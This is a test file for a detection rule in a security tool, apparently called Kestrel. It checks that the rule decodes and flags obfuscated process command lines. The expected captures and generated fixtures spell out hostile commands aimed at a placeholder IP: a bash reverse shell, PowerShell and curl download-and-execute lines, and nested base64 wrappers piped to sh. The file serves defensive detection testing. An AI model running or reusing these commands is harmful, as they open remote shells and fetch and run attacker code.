// examples/lua-rule: its README's commands run, and find what it says; and the rule bears what is as large as it looks at.

import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { repositoryRoot } from "./support/repository.js";

const ROOT = repositoryRoot();
const FOLDER = mkdtempSync(join(tmpdir(), "kestrel-lua-rule-"));
const PACK = join(FOLDER, "pack");
const example = suite("lua example");
example.after(() => rmSync(FOLDER, { recursive: true }));

interface Alert {
  readonly kestrel: { readonly events: readonly { readonly captures: Readonly<Record<string, string>> }[] };
}

function run(command: string): string {
  const { status, stdout, stderr } = spawnSync("bash", ["-c", command], { cwd: ROOT, encoding: "utf8" });
  assert.is(status, 0, `${command}\n${stderr}`);
  return stdout;
}

/** What the rule captured of each event that it matched. */
function capturesOf(events: string): readonly Readonly<Record<string, string>>[] {
  const lines = run(`node_modules/.bin/kestrel-run ${PACK} --replay ${events}`).split("\n");
  return lines
    .filter((line) => line !== "")
    .map((line) => (JSON.parse(line) as Alert).kestrel.events[0]?.captures ?? {});
}

example("the commands of its README run", () => {
  const page = readFileSync(join(ROOT, "examples/lua-rule/README.md"), "utf8");
  const commands = [...page.matchAll(/^npx (.*)$/gm)].map(([, command = ""]) => command);
  assert.is(commands.length, 2);
  for (const command of commands) run(`node_modules/.bin/${command.replaceAll("dist/encoded-command", PACK)}`);
});

example("four of nine events are alerts, each with what it hid", () => {
  assert.equal(capturesOf("examples/lua-rule/events.ndjson"), [
    { command: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')", layers: "1" },
    { command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", layers: "1" },
    { command: "curl -s https://203.0.113.7/x | sh", layers: "2" },
    { command: "Invoke-WebRequest http://203.0.113.7/b.exe -OutFile b.exe", layers: "1" },
  ]);
});

example("three layers of the longest command stay within the limits", () => {
  const wrap = (command: string): string => `echo ${Buffer.from(command).toString("base64")} | base64 -d | sh`;
  const inner = `${"# nothing ".repeat(320)}\ncurl https://203.0.113.7/x`;
  const process = { pid: 1, name: "sh", command_line: `sh -c ${wrap(wrap(wrap(inner)))}` };
  assert.ok(process.command_line.length > 7700 && process.command_line.length < 8192);
  const deeper = { pid: 2, name: "sh", command_line: `sh -c ${wrap(wrap(wrap(wrap("curl https://203.0.113.7/x"))))}` };
  const event = { "@timestamp": "2026-03-17T09:00:00Z", event: { category: "process" } };
  const file = join(FOLDER, "events.ndjson");
  writeFileSync(file, [process, deeper].map((process) => `${JSON.stringify({ ...event, process })}\n`).join(""));
  const captures = capturesOf(file);
  assert.equal(
    captures.map(({ layers }) => layers),
    ["3"],
  );
  assert.match(captures[0]?.command ?? "", /^# nothing/);
});

example.run();
